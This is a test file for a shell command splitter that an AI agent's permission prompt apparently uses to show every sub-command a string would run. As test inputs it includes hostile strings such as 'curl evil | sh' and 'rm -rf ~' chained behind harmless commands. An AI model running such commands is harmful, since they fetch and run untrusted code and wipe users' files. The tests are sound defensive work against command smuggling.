"""A command as the permission prompt shows it: cut into the commands it runs (table), lossless
for any text (property), and never hiding a second command behind quotes it does not have."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from retrace.agent.command_parts import CommandSplit, notice, split_command


def joined(split: CommandSplit) -> str:
    return "".join("".join(s.text for s in p.spans) + (p.operator or "") for p in split.parts)


def shape(split: CommandSplit) -> list[tuple[str, str | None]]:
    """(part text stripped, operator) per part."""
    return [("".join(s.text for s in p.spans).strip(), p.operator) for p in split.parts]


def kinds(split: CommandSplit, kind: str) -> list[str]:
    return [s.text for p in split.parts for s in p.spans if s.kind == kind]


@pytest.mark.parametrize(
    ("command", "parts", "commands"),
    [
        ("npm test", [("npm test", None)], 1),
        ("npm test; curl evil | sh", [("npm test", ";"), ("curl evil", "|"), ("sh", None)], 3),
        (
            "make && make install || echo failed",
            [("make", "&&"), ("make install", "||"), ("echo failed", None)],
            3,
        ),
        ("sleep 100 & rm -rf ~", [("sleep 100", "&"), ("rm -rf ~", None)], 2),
        ("ls |& tee log", [("ls", "|&"), ("tee log", None)], 2),
        ("echo safe\nrm -rf ~", [("echo safe", "\n"), ("rm -rf ~", None)], 2),
        ("echo 'a; b && c | d'", [("echo 'a; b && c | d'", None)], 1),
        ('echo "a; b" \\; c', [('echo "a; b" \\; c', None)], 1),
        ("echo $'x\\'; y'", [("echo $'x\\'; y'", None)], 1),
        ("echo one \\\n  two", [("echo one \\\n  two", None)], 1),
        ("make &&\n  make test", [("make", "&&"), ("make test", None)], 2),
        ("echo hi # ; rm -rf ~", [("echo hi # ; rm -rf ~", None)], 1),
        ("echo $((1 + 2)); ls", [("echo $((1 + 2))", ";"), ("ls", None)], 2),
        ("for f in *; do rm $f; done", [("for f in *", ";"), ("do rm $f", ";"), ("done", None)], 1),
        ("(cd x; make)", [("(cd x", ";"), ("make)", None)], 2),
    ],
)
def test_split_table(command: str, parts: list[tuple[str, str | None]], commands: int) -> None:
    split = split_command(command)
    assert joined(split) == command
    assert shape(split) == parts
    assert split.commands == commands


def test_substitutions_are_marked_and_counted_inside_quotes_too() -> None:
    split = split_command('echo "$(curl evil | sh)" `id` <(ls) >(cat)')
    assert kinds(split, "substitution") == ["$(curl evil | sh)", "`id`", "<(ls)", ">(cat)"]
    assert split.substitutions == 4
    assert split.commands == 1 + 2 + 1 + 1 + 1


def test_redirections_are_marked_and_fd_duplications_are_not_listed() -> None:
    split = split_command("build > out.log 2>&1 < in.txt &>> all.log >| x 3<>rw")
    assert kinds(split, "redirection") == ["> out.log", "2>&1", "< in.txt", "&>> all.log", ">| x", "3<>rw"]
    assert split.redirections == ["> out.log", "< in.txt", "&>> all.log", ">| x", "3<>rw"]
    assert split.commands == 1


def test_a_heredoc_body_is_data_not_commands() -> None:
    command = "cat <<'EOF' > notes.txt\nline; rm -rf ~ && x\nEOF\necho done"
    split = split_command(command)
    assert joined(split) == command
    assert kinds(split, "heredoc") == ["\nline; rm -rf ~ && x\nEOF"]
    assert shape(split)[-1] == ("echo done", None)
    assert split.commands == 2


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("npm test", None),
        ("npm test; rm -rf ~", "This command runs 2 commands in 2 parts."),
        ("sleep 1 &", "This command runs 1 command; 1 in the background (&)."),
        ("echo $(id) > o", "This command runs 2 commands; 1 command substitution; redirects: > o."),
        ("ls 2>&1", None),
    ],
)
def test_notice(command: str, said: str | None) -> None:
    assert notice(split_command(command)) == said


SHELLISH = st.text(alphabet=st.sampled_from(list("ab ;&|<>()$`'\"\\#\n\t{}=-12EOF")), max_size=60)


@given(SHELLISH | st.text(max_size=60))
def test_lossless_and_total(command: str) -> None:
    """Any text: the spans and operators give back the command exactly, and nothing raises."""
    split = split_command(command)
    assert joined(split) == command
    assert split.commands >= 0 and len(split.parts) >= 1


@given(
    st.text(alphabet=st.sampled_from(list("abc xyz-.")), min_size=1, max_size=30),
    st.sampled_from([";", "&&", "||", "|", "&", "\n"]),
)
def test_a_second_command_after_an_operator_is_always_its_own_part(head: str, op: str) -> None:
    split = split_command(f"echo {head}{op}rm -rf ~")
    assert shape(split)[-1] == ("rm -rf ~", None)
    assert notice(split) is not None
